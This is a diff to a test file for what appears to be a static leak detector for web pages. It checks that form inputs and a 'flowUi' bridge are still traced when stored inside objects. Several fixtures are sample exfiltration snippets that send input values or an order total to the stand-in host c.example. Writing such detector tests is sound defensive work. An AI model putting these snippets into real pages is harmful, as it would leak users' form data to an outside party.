@@ -329,3 +329,37 @@ def test_a_recursive_callback_of_map_ends():
 def test_a_list_of_controls_mapped_to_a_count_gives_no_input():
     source = sends(NEIGHBOURS, "document.body.onchange", "[...document.querySelectorAll('input')].map(i => i.id.length).length")
     assert leaks(source) == []
+
+
+# -- objects kept in other objects -------------------------------------------------------------
+@pytest.mark.parametrize("setup, read", [
+    ("const o = {el: q};", "o.el.value"),
+    ("const o = {['e' + 'l']: q}; const {el} = o;", "el.value"),
+    ("const o = {box: {el: q}};", "o.box.el.value"),
+    ("const o = {}; o.el = q;", "o.el.value"),
+    ("const o = {}; o['e' + 'l'] = q;", "o.el.value"),
+    ("const reg = {}; function keep(k, v) { reg[k] = v; } keep('x', q);", "reg.x.value"),
+    ("const reg = {}; [q].forEach((v, i) => { reg[i] = v; });", "reg[0].value"),
+    ("const el = q; const o = {el};", "o.el.value"),
+])
+def test_a_control_kept_in_an_object_is_its_input(setup, read):
+    source = f"<input id=q><script>{setup}</script>" + sends("", "document.body.onchange", read)
+    assert leaks(source) == [(["input:#q"], ["c.example"])]
+
+
+def test_an_object_holding_a_control_gives_no_input_through_its_other_members():
+    source = ("<input id=q><script>const ui = {field: q, label: 'Quantity'};</script>"
+              + sends("", "document.body.onchange", "ui.label.length"))
+    assert leaks(source) == []
+
+
+@pytest.mark.parametrize("setup, call", [
+    ("const o = {f: flowUi};", "o.f.openUrl"),
+    ("const box = {api: {inner: flowUi}};", "box.api.inner.openUrl"),
+    ("const o = {}; o.f = flowUi;", "o.f.openUrl"),
+    ("const {f} = {f: flowUi};", "f.openUrl"),
+])
+def test_flowui_kept_in_an_object_is_the_bridge(setup, call):
+    source = f"<script>{setup} document.body.onclick = () => {call}('https://c.example/?' + flowUi.get('order.total'));</script>"
+    found = [(f.rule, f.paths) for f in review_static(source, file="b.html", fields=["order.total"]) if f.rule.startswith("exfil.")]
+    assert found == [("exfil.state-to-url", ["order.total"])]
